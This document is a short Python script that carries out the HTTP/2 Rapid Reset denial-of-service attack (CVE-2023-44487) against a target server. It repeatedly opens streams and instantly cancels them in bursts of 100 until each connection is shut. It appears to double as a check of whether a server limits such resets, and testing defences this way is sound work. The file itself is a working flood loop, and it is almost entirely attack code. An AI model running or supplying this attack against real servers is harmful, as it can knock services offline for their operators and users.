# SPDX-License-Identifier: Apache-2.0
"""CVE-2023-44487: a request, and at once its reset, again and again."""
import struct

from lib.flood import Shut, headers, request_block
from lib.http2 import CANCEL, RST_STREAM, frame

BURST = 100


def attack(target):
    block = request_block("/readyz", "GET")
    opened, resets = 0, 0
    while target.is_on():
        if (line := target.line()) is None:
            continue
        opened += 1
        stream = 1
        try:
            while target.is_on() and not line.is_shut():
                streams = range(stream, stream + 2 * BURST, 2)
                stream += 2 * BURST
                line.send(b"".join(headers(s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", CANCEL)) for s in streams))
                resets += BURST
        except Shut:
            pass
        line.close()
    assert opened > 1, "a connection may reset without end"
    return f"{opened} connections, each shut after {resets // opened} resets sent"
